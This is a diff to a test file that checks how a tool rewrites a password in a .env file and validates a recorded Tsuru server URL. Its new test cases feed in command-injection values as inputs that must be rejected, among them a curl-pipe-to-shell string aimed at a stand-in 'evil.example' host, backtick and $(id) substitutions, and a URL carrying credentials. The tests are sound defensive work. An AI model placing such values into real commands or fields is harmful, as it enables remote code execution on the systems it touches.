@@ -66,6 +66,18 @@ describe('the password in .env', () => {
     expect(() => withNewPassword(text, NEW, TARGET)).toThrow(/^The password in \.env cannot be replaced/);
   });
 
+  it.each(['https://tsuru.example.com:8443/a_b-c~d/%20', 'http://[::1]:8080', 'http://10.0.0.1'])('names a Tsuru in the line about the old one: %s', (target) => {
+    expect(targetIn(withNewPassword('SERVICE_PASSWORD=old\n', NEW, target))).toBe(target);
+  });
+
+  it.each(['https://evil.example/;curl${IFS}evil|sh', 'https://evil.example/`id`', 'https://evil.example/$(id)', "https://evil.example/'", 'https://evil.example/ --x', 'https://evil.example/>x', 'https://me:secret@evil.example', 'javascript:1', '--token', 'https://[', ''])(
+    'names no Tsuru by anything but a plain URL, without showing it: %s',
+    (target) => {
+      expect(() => targetIn(noted('SERVICE_OLD_PASSWORD=old\n').replace(TARGET, () => target))).toThrow(/^The line of \.env about SERVICE_OLD_PASSWORD ends with no address of a Tsuru: it must be an http or https URL without special characters\.$/);
+      expect(() => withNewPassword('SERVICE_PASSWORD=old\n', NEW, target)).toThrow(/^The address of this Tsuru has special characters/);
+    },
+  );
+
   it('is not there when it is empty', () => {
     expect(passwordsIn('SERVICE_PASSWORD=\nSERVICE_OLD_PASSWORD=""\n')).toEqual({});
     expect(passwordsIn('')).toEqual({});
